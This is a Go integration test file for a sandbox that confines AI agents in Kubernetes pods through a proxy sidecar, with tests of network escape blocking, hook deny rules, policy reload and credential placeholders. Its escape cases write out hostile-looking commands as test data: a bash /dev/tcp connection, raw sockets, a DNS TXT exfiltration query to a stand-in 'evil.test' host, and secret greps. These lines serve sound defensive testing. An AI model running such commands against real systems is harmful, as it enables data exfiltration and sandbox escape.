//go:build linux

package integration

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/yaml"

	"github.com/barry-rocks/sandbox/internal/kube"
	"github.com/barry-rocks/sandbox/internal/testenv"
	"github.com/barry-rocks/sandbox/proxy/proxytest"
)

// The pod of docs/kubernetes.md, emulated with the real container engine:
// a pause container holds the pod's network namespace (linked to the fake
// world), and the init container (sandboxd netinit, root with NET_ADMIN
// only), the sidecar (sandboxd proxy --sidecar, its own uid, no
// capability) and the agent's container (the agent's uid, no capability,
// Docker's default seccomp profile) join it with --network container:,
// as a pod's containers share theirs.
// podHealthPort is the sidecar's health port, as the manifests render it.
var podHealthPort = strconv.Itoa(kube.HealthPort)

// podPolicy is the pod's session policy: the world's allowed hosts, git
// push denied to the hooks, .env files denied.
func podPolicy(allow ...string) string {
	return "version: 1\nharness: claude-code\nsession:\n  bound:\n" +
		"    bash: {denyPrograms: [\"git:push\"]}\n" +
		"    files: {deny: [\"**/.env\"]}\n" +
		"    network: {enforce: sandbox, domains: [denied.test], allowDomains: [" + strings.Join(allow, ", ") + "]}\n"
}

// testPod is one emulated pod.
type testPod struct {
	pause, sidecar *runningContainer
	w              *world
	dir            string // shared: the policy's ConfigMap-like directory, the hook socket's volume
	generation     int
	spec           *corev1.Pod // the rendered Pod
	secretDir      string      // the credential Secret's mount ("" none)
}

// podOpts are what a pod adds to the default one.
type podOpts struct {
	// secret is a credential Secret's keys and values: mounted (as the
	// kubelet lays a Secret volume out) in the sidecar alone, and given
	// to render as --credential-secret.
	secret map[string]string
}

// startPod renders the session's manifests (sandboxd kube render, with
// the policy and the image's agent uid) and runs the pod they describe:
// the pause container and the world around it, then barry-netinit and
// barry-proxy with exactly their rendered commands, users and
// capabilities (the only additions are the fake world's resolver and
// its TEST-NET addresses, opened past the dial guard), the policy's
// ConfigMap and the hook socket's emptyDir as directories at their
// rendered paths; it waits for /readyz.
func startPod(t *testing.T, name, policy string) *testPod {
	t.Helper()
	return startPodWith(t, name, policy, podOpts{})
}

// startPodWith is startPod with o's additions.
func startPodWith(t *testing.T, name, policy string, o podOpts) *testPod {
	t.Helper()
	p := &testPod{dir: sharedDir(t)}
	for _, d := range []string{"policy", "run"} {
		if err := os.MkdirAll(filepath.Join(p.dir, d), 0o777); err != nil {
			t.Fatal(err)
		}
		os.Chmod(filepath.Join(p.dir, d), 0o777)
	}
	p.swapPolicy(t, policy)
	var renderArgs []string
	if o.secret != nil {
		p.secretDir = secretVolume(t, o.secret)
		renderArgs = append(renderArgs, "--credential-secret", name+"-credentials")
	}
	pod := renderPod(t, name, filepath.Join(p.dir, "policy", "policy.yaml"), renderArgs...)
	p.spec = pod
	netinit, sidecar := pod.Spec.InitContainers[0], pod.Spec.InitContainers[1]
	p.pause = startContainer(t, containerOpts{hostTools: true})
	p.w = newWorldAround(t, proxytest.AttachNetns(t, p.pause.pid), false)
	// A pod's network has a default route (the CNI's): the cluster's
	// resolver, here the one Docker names in resolv.conf, is reached
	// through it, so the agent's DNS to it is sent, and redirected.
	sh(t, "ip", "-n", p.w.host.Name, "route", "add", "default", "via", worldAddr)
	net := "container:" + p.pause.name
	volumes := []string{"-v", filepath.Join(p.dir, "policy") + ":" + kube.PolicyDir + ":ro", "-v", filepath.Join(p.dir, "run") + ":" + kube.RunDir}
	r := containerRun(t, containerOpts{network: net, hostTools: true, flags: append(containerFlags(t, netinit), volumes...)}, imageCommand(netinit.Command)...)
	if r.code != 0 || !strings.Contains(r.stdout, "confined") {
		t.Fatalf("netinit: %s", r)
	}
	flags := append(containerFlags(t, sidecar), volumes...)
	// Its own runtime directory, an emptyDir no other container mounts,
	// and the literal variables that name it.
	flags = append(flags, "--tmpfs", fmt.Sprintf("%s:uid=%d,gid=%d,mode=0700", kube.ProxyRuntimeDir, kube.ProxyUID, kube.ProxyUID))
	for _, e := range sidecar.Env {
		if e.ValueFrom == nil {
			flags = append(flags, "--env", e.Name+"="+e.Value)
		}
	}
	if p.secretDir != "" {
		flags = append(flags, "-v", p.secretDir+":"+kube.CredentialDir+":ro")
	}
	// The world's CA: the sidecar verifies a credential host's server.
	flags = append(flags, "--env", "POD_NAME="+name, "--env", "POD_NAMESPACE=agents", "--env", "POD_UID=uid-"+name, "--env", "BARRY_SESSION=session-"+name, "--env", "SSL_CERT_FILE="+p.w.caFile)
	argv := append(imageCommand(sidecar.Command), "--dns-upstream", dnsAddr+":53", "--allow-private", "192.0.2.0/24", "--allow-private", "2001:db8::/32")
	p.sidecar = startDetached(t, containerOpts{network: net, hostTools: true, flags: flags}, argv...)
	deadline := time.Now().Add(30 * time.Second)
	for {
		h := p.sidecar.exec(t, 10*time.Second, nil, "curl", "-sS", "--max-time", "2", "http://127.0.0.1:"+strconv.Itoa(kube.HealthPort)+kube.ReadyPath)
		if h.code == 0 && strings.TrimSpace(h.stdout) == "ok" {
			return p
		}
		if time.Now().After(deadline) {
			t.Fatalf("the sidecar is not ready: %s\nlogs: %s", h, docker(t, time.Minute, "logs", p.sidecar.name))
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// renderPod is the Pod of `sandboxd kube render` for the policy file,
// with the image's agent uid.
func renderPod(t *testing.T, name, policyFile string, extra ...string) *corev1.Pod {
	t.Helper()
	out, err := exec.Command(sandboxdBin, append([]string{"kube", "render", "--policy", policyFile, "--image", "barry-sandbox:test",
		"--agent-uid", strconv.Itoa(containerAgentUID), "--name", name}, extra...)...).Output()
	if err != nil {
		var stderr []byte
		if ee, ok := err.(*exec.ExitError); ok {
			stderr = ee.Stderr
		}
		t.Fatalf("sandboxd kube render: %v: %s", err, stderr)
	}
	for _, doc := range strings.Split(string(out), "\n---\n") {
		if !strings.Contains(doc, "\nkind: Pod\n") && !strings.HasPrefix(doc, "kind: Pod\n") {
			continue
		}
		var pod corev1.Pod
		if err := yaml.UnmarshalStrict([]byte(doc), &pod); err != nil {
			t.Fatalf("the rendered Pod: %v", err)
		}
		if len(pod.Spec.InitContainers) < 2 || pod.Spec.InitContainers[0].Name != kube.NetinitName || pod.Spec.InitContainers[1].Name != kube.ProxyName {
			t.Fatalf("the rendered Pod's init containers: %+v", pod.Spec.InitContainers)
		}
		return &pod
	}
	t.Fatalf("sandboxd kube render printed no Pod:\n%s", out)
	return nil
}

// containerFlags are docker run's flags for a rendered container's
// security context: its user and group, every capability dropped and
// those it adds added back.
func containerFlags(t *testing.T, c corev1.Container) []string {
	t.Helper()
	sc := c.SecurityContext
	if sc == nil || sc.RunAsUser == nil || sc.Capabilities == nil || len(sc.Capabilities.Drop) != 1 || sc.Capabilities.Drop[0] != "ALL" {
		t.Fatalf("%s: security context %+v: want a user and every capability dropped", c.Name, sc)
	}
	group := *sc.RunAsUser
	if sc.RunAsGroup != nil {
		group = *sc.RunAsGroup
	}
	flags := []string{"--user", fmt.Sprintf("%d:%d", *sc.RunAsUser, group), "--cap-drop", "ALL"}
	for _, a := range sc.Capabilities.Add {
		flags = append(flags, "--cap-add", string(a))
	}
	return flags
}

// imageCommand is a rendered command with the image's sandboxd.
func imageCommand(cmd []string) []string {
	out := append([]string(nil), cmd...)
	if len(out) > 0 && out[0] == "sandboxd" {
		out[0] = containerSandboxd
	}
	return out
}

// secretVolume lays keys out as the kubelet mounts a Secret volume (each
// KEY a symlink through ..data to a timestamped directory, files 0444,
// defaultMode as rendered), in a directory outside shareRoot: only the
// containers it is bound into see it.
func secretVolume(t *testing.T, keys map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	os.Chmod(dir, 0o755)
	gen := "..2026_12_06_00_00_00.1"
	if err := os.Mkdir(filepath.Join(dir, gen), 0o755); err != nil {
		t.Fatal(err)
	}
	for k, v := range keys {
		if err := os.WriteFile(filepath.Join(dir, gen, k), []byte(v), 0o444); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("..data/"+k, filepath.Join(dir, k)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(gen, filepath.Join(dir, "..data")); err != nil {
		t.Fatal(err)
	}
	return dir
}

// swapPolicy writes policy as the kubelet updates a ConfigMap volume: a
// new timestamped directory, then the ..data symlink renamed over to it
// (policy.yaml is a symlink through ..data).
func (p *testPod) swapPolicy(t *testing.T, policy string) {
	t.Helper()
	p.generation++
	dir := filepath.Join(p.dir, "policy")
	gen := fmt.Sprintf("..2026_12_06_00_00_%02d.%d", p.generation, p.generation)
	if err := os.Mkdir(filepath.Join(dir, gen), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, gen, "policy.yaml"), []byte(policy), 0o644); err != nil {
		t.Fatal(err)
	}
	tmp := filepath.Join(dir, "..data_tmp")
	if err := os.Symlink(gen, tmp); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, filepath.Join(dir, "..data")); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(filepath.Join(dir, "policy.yaml")); err != nil {
		if err := os.Symlink("..data/policy.yaml", filepath.Join(dir, "policy.yaml")); err != nil {
			t.Fatal(err)
		}
	}
}

// agent runs argv in a new container of the pod as the agent: its uid, no
// capability, the world's environment.
func (p *testPod) agent(t *testing.T, env []string, argv ...string) dockerResult {
	t.Helper()
	flags := []string{"--user", fmt.Sprintf("%d:%d", containerAgentUID, containerAgentUID), "--cap-drop", "ALL",
		"-v", filepath.Join(p.dir, "run") + ":" + kube.RunDir + ":ro"}
	for _, e := range p.w.env(containerWorkdir, env) {
		flags = append(flags, "--env", e)
	}
	return containerRun(t, containerOpts{network: "container:" + p.pause.name, hostTools: true, flags: flags}, argv...)
}

// renderedAgent runs argv in a new container of the pod as the rendered
// agent container is: its uid, no capability, a read-only root with
// emptyDirs (tmpfs here) at its HOME, /tmp and the workspace, /run/barry
// read-only, the rendered environment's literals (none of the world's:
// its trust is what the sidecar writes) and argv under the rendered
// command's wrapper (the rendered command less its program). It sees none
// of the test's files (no shareRoot) and gets stdin.
func (p *testPod) renderedAgent(t *testing.T, stdin string, argv ...string) dockerResult {
	t.Helper()
	return p.renderedAgentRun(t, agentRun{stdin: stdin}, argv...)
}

// agentRun is what a renderedAgentRun adds to the rendered agent.
type agentRun struct {
	stdin string
	// workspace, when set, is the host directory bound at the agent's
	// working directory (its workspace volume), so the test sees what it
	// wrote; else the workspace is a tmpfs as the other emptyDirs.
	workspace string
	// flags are more of docker run's (binds of the harness's install).
	flags []string
}

// renderedAgentRun is renderedAgent with a's additions.
func (p *testPod) renderedAgentRun(t *testing.T, a agentRun, argv ...string) dockerResult {
	t.Helper()
	agent := p.spec.Spec.Containers[0]
	uid := strconv.Itoa(containerAgentUID)
	flags := append(containerFlags(t, agent), "-i", "--read-only", "--workdir", agent.WorkingDir,
		"-v", filepath.Join(p.dir, "run")+":"+kube.RunDir+":ro")
	for _, m := range agent.VolumeMounts {
		switch {
		case m.MountPath == kube.RunDir:
		case a.workspace != "" && m.MountPath == agent.WorkingDir:
			flags = append(flags, "-v", a.workspace+":"+m.MountPath)
		default:
			flags = append(flags, "--tmpfs", m.MountPath+":uid="+uid+",gid="+uid+",mode=0755,exec")
		}
	}
	for _, e := range agent.Env {
		if e.ValueFrom == nil {
			flags = append(flags, "--env", e.Name+"="+e.Value)
		}
	}
	flags = append(flags, a.flags...)
	cmd := append(append([]string(nil), agent.Command[:len(agent.Command)-1]...), argv...)
	o := containerOpts{network: "container:" + p.pause.name, hostTools: true, noShareRoot: true, flags: flags}
	r, err := dockerRun(requireDocker(t), 4*time.Minute, strings.NewReader(a.stdin), append(o.runArgs(t, newContainerName()), cmd...)...)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// logs are the sidecar's stdout (its audit) so far.
func (p *testPod) logs(t *testing.T) string {
	t.Helper()
	return docker(t, time.Minute, "logs", p.sidecar.name).stdout
}

// startDetached starts argv in a new detached container that lives until
// the test ends.
func startDetached(t *testing.T, o containerOpts, argv ...string) *runningContainer {
	t.Helper()
	c := &runningContainer{name: newContainerName()}
	r := docker(t, 2*time.Minute, append(o.runArgs(t, c.name, "--detach"), argv...)...)
	if r.code != 0 {
		t.Fatalf("docker run -d %v: %s", argv, r)
	}
	r = docker(t, time.Minute, "inspect", "--format", "{{.State.Pid}}", c.name)
	if c.pid, _ = strconv.Atoi(strings.TrimSpace(r.stdout)); c.pid <= 0 {
		// Gone already (--rm): once more in the foreground, for its
		// reason.
		again := containerRun(t, o, append([]string{"timeout", "5"}, argv...)...)
		t.Fatalf("%v exited at once: %s", argv, again)
	}
	return c
}

// TestPodSidecar: the agent's container reaches an allowed host through
// the sidecar's capture and nothing else (direct addresses, UDP, DNS to
// any server, names that resolve to loopback or the pod's own address);
// its hook calls are ruled on the shared socket (git push denied, a
// search over a directory holding a .env denied naming it, as hooks only:
// the pod has no filesystem layer); the sidecar's audit on stdout carries
// the pod's name, namespace and uid; a ConfigMap-style swap of the policy
// that drops the allowed host applies within a second and is audited;
// with the sidecar killed the agent has no network at all.
func TestPodSidecar(t *testing.T) {
	requireDocker(t)
	testenv.NeedRoot(t)
	for _, c := range []string{"curl", "python3", "dig", "bash"} {
		if _, err := os.Stat(filepath.Join("/usr/bin", c)); err != nil {
			testenv.SkipOrFail(t, "/usr/bin/"+c+" is not installed")
		}
	}
	containerImage(t)
	p := startPod(t, "pod-a", podPolicy("allowed.test", "rebind.test", "hostaddr.test"))
	marker := fmt.Sprintf("/pod-%d", time.Now().UnixNano())

	for _, c := range []escapeCase{
		// A denied name does not resolve: the DNS proxy refuses it.
		{"curl http denied", []string{"sh", "-c", "curl -sS --max-time 20 http://denied.test" + marker + "; echo code=$?"}, "code=6"},
		// The allowed host's address, a denied name: the capture goes by
		// the name the client sends, and the proxy refuses it.
		{"a denied name at an allowed address", []string{"sh", "-c", "curl -sS --max-time 10 --resolve denied.test:443:" + webAddr + " https://denied.test" + marker + " && echo ESCAPED; echo done"}, "done"},
		{"curl to an address", []string{"sh", "-c", "curl -sS --max-time 5 http://" + webAddr + ":" + udpEchoPort + "/ ; echo code=$?"}, "not in allowlist: " + webAddr + "\ncode=0"},
		{"bash dev tcp", []string{"bash", "-c", "exec 3<>/dev/tcp/" + webAddr + "/" + udpEchoPort + " && echo ESCAPED >&3 && timeout 10 cat <&3; echo closed"}, "closed"},
		{"python tcp", []string{"python3", "-c", pyConnectScript, "4", "tcp", webAddr, udpEchoPort}, "closed b''"},
		{"python udp", []string{"python3", "-c", pyConnectScript, "4", "udp", webAddr, udpEchoPort}, "refused 1\n"},
		{"loopback port of the sidecar's health", []string{"python3", "-c", pyConnectScript, "4", "tcp", "127.0.0.1", podHealthPort}, "refused"},
		{"dns to the world's resolver", []string{"sh", "-c", "dig +tries=1 +time=5 @" + dnsAddr + " direct.denied.test A"}, "status: REFUSED"},
		{"dns denied name", []string{"dig", "+tries=1", "+time=5", "@127.0.0.1", "secret-data.denied.test", "A"}, "status: REFUSED"},
		{"dns txt exfiltration", []string{"dig", "+tries=1", "+time=5", "@127.0.0.1", "c2VjcmV0.exfil.evil.test", "TXT"}, "status: REFUSED"},
		// The DNS proxy strips the answers that point inside: nothing to
		// connect to (and the proxy would refuse the address).
		{"allowed name resolving to loopback", []string{"sh", "-c", "curl -sS --max-time 10 http://rebind.test/; echo code=$?"}, "code=6"},
		{"allowed name resolving to the pod's address", []string{"sh", "-c", "curl -sS --max-time 10 http://hostaddr.test/; echo code=$?"}, "code=6"},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := p.agent(t, nil, c.argv...)
			if !strings.Contains(r.stdout, c.want) || strings.Contains(r.stdout, "ESCAPED") {
				t.Fatalf("%s\nwant %q", r, c.want)
			}
		})
	}

	// Before any allowed name is resolved: the capture would take a
	// connection to its address as one to the name it came from.
	if _, seen, tcp, udp := p.w.seen(); strings.Contains(strings.Join(seen, "\n"), "denied.test") || tcp > 0 || udp > 0 {
		t.Errorf("the world saw a denied request (http %q, raw tcp %d, udp %d)", seen, tcp, udp)
	}

	t.Run("allowed", func(t *testing.T) {
		r := p.agent(t, nil, "curl", "-sS", "--max-time", "20", "https://allowed.test"+marker)
		if r.code != 0 || !strings.Contains(r.stdout, "hello from allowed.test") {
			d := p.agent(t, nil, "sh", "-c", "cat /etc/resolv.conf; getent hosts allowed.test; echo getent=$?; dig +tries=1 +time=3 @127.0.0.1 allowed.test A")
			t.Fatalf("curl https://allowed.test from the agent: %s\nresolution: %s\nsidecar: %s", r, d, p.logs(t))
		}
		if _, seen, _, _ := p.w.seen(); !strings.Contains(strings.Join(seen, "\n"), "allowed.test "+marker) {
			t.Errorf("the world never saw the allowed request (it saw %q)", seen)
		}
	})

	t.Run("hooks", func(t *testing.T) {
		ws := sharedDir(t)
		if err := os.WriteFile(filepath.Join(ws, ".env"), []byte("TOKEN=pod-secret\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		os.Mkdir(filepath.Join(ws, "src"), 0o777)
		sock := "BARRY_HOOK_SOCKET=unix:" + kube.HookSocket
		for _, c := range []struct{ command, want string }{
			{"git push origin main", `denied by bash.denyPrograms \"git:push\"`},
			{"grep -rn TOKEN .", "reaches a denied path in " + ws + " "},
			{"grep -rn TOKEN src", ""},
		} {
			payload := fmt.Sprintf(`{"session_id":"s","hook_event_name":"PreToolUse","cwd":%q,"tool_name":"Bash","tool_input":{"command":%q}}`, ws, c.command)
			r := p.agent(t, []string{sock}, "sh", "-c", "printf '%s' \"$0\" | "+containerHookgate+" check --harness claude-code", payload)
			switch {
			case r.code != 0:
				t.Errorf("%s: hookgate: %s", c.command, r)
			case c.want == "" && r.stdout != "":
				t.Errorf("%s: %s, want no objection", c.command, r.stdout)
			case c.want != "" && (!strings.Contains(r.stdout, `"permissionDecision":"deny"`) || !strings.Contains(r.stdout, c.want)):
				t.Errorf("%s: %s, want a deny with %q", c.command, r.stdout, c.want)
			}
		}
	})

	t.Run("fleet", func(t *testing.T) {
		logs := p.logs(t)
		if !strings.Contains(logs, `"msg":"session start"`) || !strings.Contains(logs, `"pod":"pod-a"`) || !strings.Contains(logs, `"namespace":"agents"`) || !strings.Contains(logs, `"pod_uid":"uid-pod-a"`) || !strings.Contains(logs, `"session_name":"session-pod-a"`) {
			t.Errorf("the sidecar's audit on stdout lacks the session start or the pod's fields:\n%s", logs)
		}
		for _, l := range strings.Split(strings.TrimSpace(logs), "\n") {
			if strings.Contains(l, `"decision"`) && (!strings.Contains(l, `"pod":"pod-a"`) || !strings.Contains(l, `"session_name":"session-pod-a"`)) {
				t.Errorf("a decision line without the pod: %s", l)
			}
		}
		// sandboxd status in the sidecar's container (kubectl exec -c
		// barry-proxy -- sandboxd status) lists the pod's session, with
		// the decisions counted so far. The session refreshes its status
		// file once a second: the allowed connection of the subtests just
		// before may not be in it yet (a fresh-clone CI read 0 allowed),
		// so it is read again for up to 5 s.
		var counters map[string][2]int64
		for try := 0; ; try++ {
			r := p.sidecar.exec(t, 30*time.Second, nil, containerSandboxd, "status", "--json")
			var list []struct {
				Running    bool                `json:"running"`
				PolicyFile string              `json:"policyFile"`
				Counters   map[string][2]int64 `json:"counters"`
			}
			if err := json.Unmarshal([]byte(r.stdout), &list); err != nil || r.code != 0 {
				t.Fatalf("sandboxd status in the sidecar: %s (%v)", r, err)
			}
			if len(list) != 1 || !list[0].Running || list[0].PolicyFile != kube.PolicyDir+"/"+kube.PolicyKey {
				t.Fatalf("sandboxd status in the sidecar lists %+v, want the pod's one running session on %s/%s", list, kube.PolicyDir, kube.PolicyKey)
			}
			counters = list[0].Counters
			var allowed, denied int64
			for _, c := range counters {
				allowed, denied = allowed+c[0], denied+c[1]
			}
			if allowed > 0 && denied > 0 {
				break
			}
			if try == 10 {
				t.Fatalf("sandboxd status in the sidecar counts %v after 5 s, want the allowed and denied connections so far", counters)
			}
			time.Sleep(500 * time.Millisecond)
		}
	})

	t.Run("reload", func(t *testing.T) {
		if r := p.agent(t, nil, "curl", "-sS", "--max-time", "20", "https://allowed.test"+marker+"-before"); !strings.Contains(r.stdout, "hello from allowed.test") {
			t.Fatalf("allowed.test before the swap: %s", r)
		}
		p.swapPolicy(t, podPolicy("rebind.test"))
		swapped := time.Now()
		var r dockerResult
		for time.Since(swapped) < 10*time.Second {
			r = p.agent(t, nil, "curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", "https://allowed.test"+marker+"-after")
			if r.code != 0 || !strings.Contains(r.stdout, "hello from allowed.test") {
				break
			}
			time.Sleep(100 * time.Millisecond)
		}
		t.Logf("the swap took effect after %v (measured with a container start per try)", time.Since(swapped))
		if strings.Contains(r.stdout, "hello from allowed.test") {
			t.Fatalf("allowed.test is still reached 10 s after the policy dropped it: %s", r)
		}
		// The sidecar's own time of the reload: within a second of the
		// swap (the tries above add a container start each).
		logs := p.logs(t)
		var at time.Time
		for _, l := range strings.Split(logs, "\n") {
			var line struct {
				Time time.Time `json:"time"`
				Msg  string    `json:"msg"`
			}
			if json.Unmarshal([]byte(l), &line) == nil && line.Msg == "policy reload" {
				at = line.Time
			}
		}
		switch {
		case at.IsZero():
			t.Errorf("no policy reload line in the sidecar's audit:\n%s", logs)
		case at.Sub(swapped) > time.Second:
			t.Errorf("the reload was audited %v after the swap, want within a second", at.Sub(swapped))
		default:
			t.Logf("the reload was audited %v after the swap", at.Sub(swapped))
		}
	})

	t.Run("sidecar killed", func(t *testing.T) {
		if r := docker(t, time.Minute, "kill", p.sidecar.name); r.code != 0 {
			t.Fatalf("docker kill: %s", r)
		}
		r := p.agent(t, nil, "sh", "-c", "curl -sS --max-time 10 http://"+webAddr+"/ ; echo code=$?; dig +tries=1 +time=3 @127.0.0.1 allowed.test A; echo dig=$?")
		if !strings.Contains(r.stdout, "code=7") || !strings.Contains(r.stdout, "dig=9") {
			t.Errorf("with the sidecar gone the agent's network is not closed: %s", r)
		}
	})
}

// TestPodCredentials: a pod whose policy names a credential. The value is
// a key of the Secret, mounted in the sidecar alone; the agent's
// container, run as rendered (its wrapper, its environment, no Secret
// mount), holds the placeholder the sidecar wrote to /run/barry, trusts
// the sandbox CA through the rendered SSL_CERT_FILE and CURL_CA_BUNDLE,
// and its curl's Authorization reaches the credential host with the real
// value, which the host echoes back and the agent sees as the
// placeholder. The real value is in none of the agent's files or
// processes' environments, nor in the audit. A key missing from the
// Secret fails the sidecar's start with one line; an agent started with
// no placeholder written does not run its command.
func TestPodCredentials(t *testing.T) {
	requireDocker(t)
	testenv.NeedRoot(t)
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		testenv.SkipOrFail(t, "/usr/bin/curl is not installed")
	}
	containerImage(t)
	const value = "tok_podSecretValue_0123456789abcdef"
	pol := "version: 1\nharness: claude-code\nsession:\n  bound:\n" +
		"    network: {enforce: sandbox, allowDomains: [allowed.test, cred.test]}\n" +
		"credentials:\n  - {env: API_TOKEN, hosts: [cred.test], file: " + kube.CredentialDir + "/api-token}\n"
	p := startPodWith(t, "pod-cred", pol, podOpts{secret: map[string]string{"api-token": value + "\n", "unused-key": "not-mounted-value"}})
	var mu sync.Mutex
	var seenAuth []string
	p.w.serveHTTPS(t, "cred.test", "192.0.2.30", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seenAuth = append(seenAuth, r.Header.Get("Authorization"))
		mu.Unlock()
		fmt.Fprintf(rw, "auth=%s\n", r.Header.Get("Authorization"))
	}))

	// The agent reads the value (for its own checks) on stdin: it is in no
	// argument, variable or file of the container.
	script := `read -r V
echo "ph=$API_TOKEN"
echo "ssl=$SSL_CERT_FILE"
curl -sS --max-time 20 -H "Authorization: Bearer $API_TOKEN" https://cred.test/api; echo "curl=$?"
curl -sS --max-time 20 https://allowed.test/opaque; echo; echo "opaque=$?"
ls /etc/barry/credentials >/dev/null 2>&1; echo "secret-dir=$?"
for f in /proc/[0-9]*/environ; do grep -qF -e "$V" "$f" 2>/dev/null && echo "ENV-LEAK $f"; done
grep -rlF -e "$V" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev --exclude-dir=usr --exclude-dir=lib --exclude-dir=lib64 --exclude-dir=ssl --exclude-dir=alternatives 2>/dev/null | sed 's/^/FILE-LEAK /'
echo end`
	r := p.renderedAgent(t, value+"\n", "sh", "-c", script)
	out := r.stdout
	t.Logf("the agent:\n%s", out)
	ph := ""
	for _, l := range strings.Split(out, "\n") {
		if v, ok := strings.CutPrefix(l, "ph="); ok {
			ph = v
		}
	}
	switch {
	case r.code != 0 || !strings.Contains(out, "\nend\n"):
		t.Fatalf("the agent: %s\nsidecar: %s", r, p.logs(t))
	case ph == "" || ph == value || len(ph) != len(value):
		t.Errorf("API_TOKEN in the agent is %q: want a placeholder of the value's length", ph)
	case !strings.Contains(out, "ssl="+kube.TrustBundle):
		t.Errorf("the agent's SSL_CERT_FILE is not the sidecar's bundle:\n%s", out)
	case !strings.Contains(out, "auth=Bearer "+ph+"\ncurl=0"):
		t.Errorf("the credential host's answer, as the agent saw it (want the placeholder back):\n%s\nsidecar: %s", out, p.logs(t))
	case !strings.Contains(out, "hello from allowed.test\nopaque=0"):
		t.Errorf("an opaque host with the bundle's roots:\n%s", out)
	case !strings.Contains(out, "secret-dir=1") && !strings.Contains(out, "secret-dir=2"):
		t.Errorf("the agent lists the Secret's directory:\n%s", out)
	case strings.Contains(out, "LEAK"):
		t.Errorf("the real value is inside the agent's container:\n%s", out)
	}
	mu.Lock()
	got := append([]string(nil), seenAuth...)
	mu.Unlock()
	if !slices.Equal(got, []string{"Bearer " + value}) {
		t.Errorf("the credential host saw Authorization %q, want the real value once", got)
	}
	logs := p.logs(t)
	if strings.Contains(logs, value) || strings.Contains(logs, "not-mounted-value") {
		t.Errorf("the audit holds the value")
	}
	if !strings.Contains(logs, `"credentials":["API_TOKEN"]`) || !strings.Contains(logs, `"terminated"`) {
		t.Errorf("the audit names no credential or no terminated tunnel:\n%s", logs)
	}
	// The rendered Secret volume lists the credential's key alone (the
	// emulation binds the whole directory).
	for _, v := range p.spec.Spec.Volumes {
		if v.Secret != nil && (len(v.Secret.Items) != 1 || v.Secret.Items[0].Key != "api-token") {
			t.Errorf("the rendered Secret volume's items %+v, want api-token alone", v.Secret.Items)
		}
	}

	t.Run("a key missing from the Secret", func(t *testing.T) {
		sidecar := p.spec.Spec.InitContainers[1]
		empty := secretVolume(t, map[string]string{"other": "x"})
		run := sharedDir(t)
		flags := append(containerFlags(t, sidecar), "-v", filepath.Join(p.dir, "policy")+":"+kube.PolicyDir+":ro",
			"-v", run+":"+kube.RunDir, "-v", empty+":"+kube.CredentialDir+":ro")
		r := containerRun(t, containerOpts{hostTools: true, flags: flags}, imageCommand(sidecar.Command)...)
		lines := strings.Split(strings.TrimSpace(r.stderr), "\n")
		if r.code != 125 || len(lines) != 1 || !strings.Contains(lines[0], "credential API_TOKEN: open "+kube.CredentialDir+"/api-token") {
			t.Errorf("want exit 125 and one line naming the key: %s", r)
		}
		if ents, _ := os.ReadDir(run); len(ents) != 0 {
			t.Errorf("the refused sidecar wrote %v", ents)
		}
	})
	t.Run("no placeholder written", func(t *testing.T) {
		q := *p
		q.dir = sharedDir(t)
		os.MkdirAll(filepath.Join(q.dir, "run"), 0o777)
		r := q.renderedAgent(t, "", "sh", "-c", "echo RAN")
		lines := strings.Split(strings.TrimSpace(r.stderr), "\n")
		if r.code != 125 || strings.Contains(r.stdout, "RAN") || !strings.Contains(lines[len(lines)-1], "barry: no placeholder for API_TOKEN in "+kube.PlaceholderDir) {
			t.Errorf("want exit 125, the command not run, the wrapper's line: %s", r)
		}
	})
}
